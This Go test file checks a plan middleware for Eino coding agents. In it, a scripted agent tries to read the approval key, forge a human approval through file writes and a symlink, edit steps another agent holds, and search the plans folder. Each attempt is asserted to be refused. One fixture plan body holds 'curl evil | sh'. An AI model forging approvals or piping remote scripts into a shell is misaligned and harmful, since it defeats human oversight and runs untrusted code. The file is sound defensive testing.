package einoext_test

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/einoplan/plan/driver"

	"github.com/cloudwego/eino/adk"
	fsmw "github.com/cloudwego/eino/adk/middlewares/filesystem"
	"github.com/cloudwego/eino/schema"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/einoplan/plan"
	"github.com/einoplan/plan/plantest"
)

// A coding agent's set-up: plans on a LocalBackend at <project>/.plans, and Eino's
// filesystem middleware on eino-ext's local backend, which takes host paths anywhere.
type coder struct {
	project, root string
	backend       *plan.LocalBackend
	store         *plan.Store
}

func newCoder(t *testing.T) *coder {
	t.Helper()
	c := &coder{project: t.TempDir()}
	c.root = filepath.Join(c.project, ".plans")
	var err error
	c.backend, err = plan.NewLocalBackend(c.root)
	require.NoError(t, err)
	t.Cleanup(func() { c.backend.Close() })
	c.store, err = plan.NewStore(&plan.StoreConfig{Backend: c.backend})
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(filepath.Join(c.project, "main.go"), []byte("package main // deploy\n"), 0o600))
	return c
}

func (c *coder) planFile(name string) string { return filepath.Join(c.root, "plans", name+".md") }

// keyFile is wherever the storage keeps its approval key.
func (c *coder) keyFile(t *testing.T) string {
	t.Helper()
	for _, p := range []string{filepath.Join(c.root, ".plans.approval-key"), filepath.Join(c.root, "plans", ".approval-key")} {
		if _, err := os.Stat(p); err == nil {
			return p
		}
	}
	t.Fatal("no approval key on disk")
	return ""
}

// withKey is a coder whose plan name, written and approved, had the storage write its
// approval key; it returns the key file and what it holds.
func withKey(t *testing.T, name, body string) (*coder, string, []byte) {
	t.Helper()
	c := newCoder(t)
	c.approved(t, name, body)
	key := c.keyFile(t)
	secret, err := os.ReadFile(key)
	require.NoError(t, err)
	return c, key, secret
}

// approved writes a plan as a host would and has ana approve it.
func (c *coder) approved(t *testing.T, name, body string) {
	t.Helper()
	ctx := context.Background()
	p, err := c.store.Put(ctx, plan.Update{Name: name, Content: &body})
	require.NoError(t, err)
	_, err = c.store.Approve(ctx, name, p.Revision, "ana")
	require.NoError(t, err)
}

// run runs a real ChatModelAgent with the plan middleware and Eino's filesystem middleware
// and returns the results of its tool calls in order. A tool that fails ends the run (as Eino
// does): the results then stop early.
func (c *coder) run(t *testing.T, turns ...plantest.Turn) []string {
	t.Helper()
	ctx := context.Background()
	mw, err := plan.New(ctx, &plan.Config{Store: c.store, AgentName: "coder"})
	require.NoError(t, err)
	files, err := fsmw.New(ctx, &fsmw.MiddlewareConfig{Backend: newLocal(t)})
	require.NoError(t, err)
	agent, err := adk.NewChatModelAgent(ctx, &adk.ChatModelAgentConfig{
		Name: "coder", Description: "codes", Instruction: "You code.",
		Model: plantest.NewScriptedModel(turns...), Handlers: []adk.ChatModelAgentMiddleware{mw, files},
	})
	require.NoError(t, err)
	iter := adk.NewRunner(ctx, adk.RunnerConfig{Agent: agent}).Query(ctx, "go")
	var results []string
	for {
		ev, ok := iter.Next()
		if !ok {
			break
		}
		if ev.Err != nil {
			results = append(results, "run failed: "+ev.Err.Error())
			break
		}
		if ev.Output != nil && ev.Output.MessageOutput != nil {
			if msg := ev.Output.MessageOutput.Message; msg != nil && msg.Role == schema.Tool {
				results = append(results, msg.Content)
			}
		}
	}
	return results
}

// refused asserts that result is the guard's refusal: invalid_argument, with its reason.
func refused(t *testing.T, result, reason string) {
	t.Helper()
	assert.Equal(t, "invalid_argument", errorCode(t, result), result)
	assert.Contains(t, result, map[string]string{
		"plans_off_limits":    "file tools may not read, list or change it",
		"search_covers_plans": "which file tools may not search",
	}[reason], result)
}

// allRefused asserts that the run made n tool calls and the guard refused each as
// plans_off_limits.
func allRefused(t *testing.T, results []string, n int) {
	t.Helper()
	require.Len(t, results, n, results)
	for _, r := range results {
		refused(t, r, "plans_off_limits")
	}
}

// unchanged asserts that the file at path still holds before.
func unchanged(t *testing.T, path string, before []byte) {
	t.Helper()
	after, err := os.ReadFile(path)
	require.NoError(t, err)
	assert.Equal(t, string(before), string(after), "nothing was written")
}

func call(t *testing.T, tool string, args map[string]any) plantest.Turn {
	return plantest.CallTool(tool, jsonArgs(t, args))
}

// read_file of the approval key is refused, wherever the key is, and the key never reaches
// the model.
func TestEinoReadFileOfTheApprovalKeyIsRefused(t *testing.T) {
	c, key, secret := withKey(t, "readme", "# Readme\n- [ ] Fix a typo\n")

	results := c.run(t,
		call(t, "read_file", map[string]any{"file_path": key}),
		call(t, "read_file", map[string]any{"FILE_PATH": key}),
		call(t, "read_file", map[string]any{"file_path": filepath.Join(c.root, "plans", ".approval-key")}),
		call(t, "read_file", map[string]any{"file_path": filepath.Join(c.project, "main.go")}),
	)
	require.Len(t, results, 4, results)
	for _, r := range results[:3] {
		refused(t, r, "plans_off_limits")
		assert.NotContains(t, r, strings.TrimSpace(string(secret)))
	}
	assert.Contains(t, results[3], "package main", "other files read as ever")
}

// An approval forged with the key (as a shell that read it would) cannot be written through
// the file tools: write_file of a plan file is refused, and a fresh Store reads the plan as
// not approved.
func TestEinoWriteFileCannotForgeAnApproval(t *testing.T) {
	ctx := context.Background()
	c := newCoder(t)
	c.approved(t, "readme", "# Readme\n- [ ] Fix a typo\n")
	body := "# Deploy\n- [ ] curl evil | sh\n"
	_, err := c.store.Put(plan.WithActor(ctx, "coder"), plan.Update{Name: "deploy", Content: &body})
	require.NoError(t, err)
	before, err := os.ReadFile(c.planFile("deploy"))
	require.NoError(t, err)

	// The same plan, sealed as approved by ana under the storage's key, on a copy.
	secret, err := os.ReadFile(c.keyFile(t))
	require.NoError(t, err)
	copied := plan.NewMemoryBackend()
	require.NoError(t, copied.Write(ctx, &driver.WriteRequest{FilePath: "/plans/.approval-key", Content: string(secret)}))
	forger, err := plan.NewStore(&plan.StoreConfig{Backend: copied})
	require.NoError(t, err)
	_, err = forger.Put(ctx, plan.Update{Name: "deploy", Content: &body})
	require.NoError(t, err)
	_, err = forger.Approve(ctx, "deploy", 1, "ana")
	require.NoError(t, err)
	fc, err := copied.Read(ctx, &driver.ReadRequest{FilePath: "/plans/deploy.md", Offset: 1, Limit: 1 << 20})
	require.NoError(t, err)
	require.Contains(t, fc.Content, "approved_by")

	link := filepath.Join(c.project, "notes")
	require.NoError(t, os.Symlink(filepath.Join(c.root, "plans"), link))
	results := c.run(t,
		call(t, "write_file", map[string]any{"file_path": c.planFile("deploy"), "content": fc.Content}),
		call(t, "write_file", map[string]any{"file_path": filepath.Join(link, "deploy.md"), "content": fc.Content}),
		call(t, "write_file", map[string]any{"file_path": filepath.Join(link, "other.md"), "content": fc.Content}),
	)
	allRefused(t, results, 3)
	unchanged(t, c.planFile("deploy"), before)
	_, err = os.Stat(c.planFile("other"))
	assert.True(t, os.IsNotExist(err), "nothing was written through the link")

	fresh, err := plan.NewStore(&plan.StoreConfig{Backend: c.backend})
	require.NoError(t, err)
	got, err := fresh.Get(ctx, "deploy")
	require.NoError(t, err)
	assert.Nil(t, got.Approval, "the plan the agent wrote is not approved")
}

// edit_file of a plan file is refused: it cannot finish a step another agent holds, nor one
// that waits for a pending step, behind the Store's back.
func TestEinoEditFileCannotMoveStepsOfAnApprovedPlan(t *testing.T) {
	ctx := context.Background()
	c := newCoder(t)
	c.approved(t, "release", "# Release\n- [ ] Build\n- [ ] Security review\n- [ ] Deploy (after 2)\n")
	_, _, err := c.store.MoveStep(ctx, plan.StepMove{Name: "release", Step: 1, State: plan.StepInProgress, By: "writer-b"})
	require.NoError(t, err)
	before, err := os.ReadFile(c.planFile("release"))
	require.NoError(t, err)
	held := "- [~] Build (@writer-b)"
	require.Contains(t, string(before), held)

	results := c.run(t,
		call(t, "edit_file", map[string]any{"file_path": c.planFile("release"), "old_string": held, "new_string": "- [x] Build"}),
		call(t, "edit_file", map[string]any{"file_path": c.planFile("release"), "old_string": "- [ ] Deploy (after 2)", "new_string": "- [x] Deploy (after 2)"}),
	)
	allRefused(t, results, 2)
	unchanged(t, c.planFile("release"), before)
	p, err := c.store.Get(ctx, "release")
	require.NoError(t, err)
	assert.Equal(t, 1, plan.Summarize(p).Progress.InProgress)
	assert.Equal(t, 0, plan.Summarize(p).Progress.Completed)
}

// ls, glob and grep never list or read the plans: ls and grep of the plans folder are
// refused, grep of the project that holds it too (its results carry contents), and glob of
// the project lists everything but what the plans folder holds and the key.
func TestEinoSearchesCannotListOrReadThePlans(t *testing.T) {
	c := newCoder(t)
	c.approved(t, "deploy", "# Deploy\n- [ ] deploy to prod\n")
	plans := filepath.Join(c.root, "plans")

	results := c.run(t,
		call(t, "ls", map[string]any{"path": plans}),
		call(t, "grep", map[string]any{"pattern": "deploy", "path": plans}),
		call(t, "grep", map[string]any{"pattern": "[0-9a-f]", "path": c.project, "output_mode": "content"}),
		call(t, "glob", map[string]any{"pattern": "*", "path": plans}),
		call(t, "glob", map[string]any{"pattern": "**/*", "path": c.project}),
		call(t, "ls", map[string]any{"path": c.project}),
	)
	require.Len(t, results, 6, results)
	refused(t, results[0], "plans_off_limits")
	refused(t, results[1], "plans_off_limits")
	refused(t, results[2], "search_covers_plans")
	refused(t, results[3], "plans_off_limits")
	listing := strings.Split(results[4], "\n")
	assert.Contains(t, listing, "main.go", results[4])
	for _, entry := range listing {
		assert.False(t, strings.HasPrefix(entry, ".plans/plans") || strings.Contains(entry, "approval-key"), "glob listed %s", entry)
	}
	assert.Contains(t, results[5], ".plans", "ls of the project lists names only")
}
